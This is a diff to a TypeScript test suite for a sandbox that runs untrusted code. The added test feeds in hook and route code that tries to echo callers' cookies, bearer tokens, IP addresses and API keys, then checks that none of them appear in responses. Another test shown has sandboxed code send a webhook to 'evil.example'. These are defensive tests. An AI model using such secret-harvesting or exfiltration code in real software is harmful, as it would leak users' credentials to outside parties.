@@ -131,6 +131,35 @@ describe('code that means harm', () => {
     expect(JSON.stringify(body)).not.toContain('package')
   })
 
+  test('reads no cookie, key, token or address of a caller', async () => {
+    const handle = '{ handle: async ({ headers, query }) => ({ json: { headers, query } }) }'
+    const seen = (name: string) => `({ ...${name}, seen: JSON.stringify([request.headers, request.query]) })`
+    const source = `
+      beforeCreate: async (draft, ctx, request) => ${seen('draft')},
+      beforeUpdate: async (old, next, ctx, request) => ${seen('next')},
+      routes: { 'GET /public/:id/do': ${handle}, 'GET /api/v1/:id/do': ${handle} }`
+    const { world, key } = await openCodeWorld(source, {
+      hooks: ['beforeCreate', 'beforeUpdate'],
+      routes: { 'GET /public/:id/do': route('public'), 'GET /api/v1/:id/do': route('admin') },
+    })
+    const secrets = { cookie: 'satchel=cookie-1', authorization: 'Bearer token-1', 'x-forwarded-for': '203.0.113.7' }
+    const headers = { ...secrets, range: 'r1' }
+    const ask = async (method: 'GET' | 'POST' | 'PUT', path: string, body?: object) => {
+      const answer = await world.call(method, `/shop${path}?api-key=${key}`, { key, headers, body })
+      expect(answer.status).toBeLessThan(300)
+      return answer
+    }
+    const made = await ask('POST', '/api/v1/', { title: 'First' })
+    const { id } = made.body
+    const all = [made, await ask('PUT', `/api/v1/${id}`, { title: 'Second' })]
+    all.push(await ask('GET', `/public/${id}/do`), await ask('GET', `/api/v1/${id}/do`))
+    for (const { body } of all) {
+      const text = JSON.stringify(body)
+      expect(text).toContain('r1')
+      for (const secret of [key, 'cookie-1', 'token-1', '203.0.113.7']) expect(text).not.toContain(secret)
+    }
+  })
+
   test('sends webhooks to the hosts of its manifest only', async () => {
     const source = one(`await ctx.notify.webhook('https://evil.example/x', 1, {}); return { json: 1 }`)
     const { world, make } = await openCodeWorld(source, PUBLIC, {
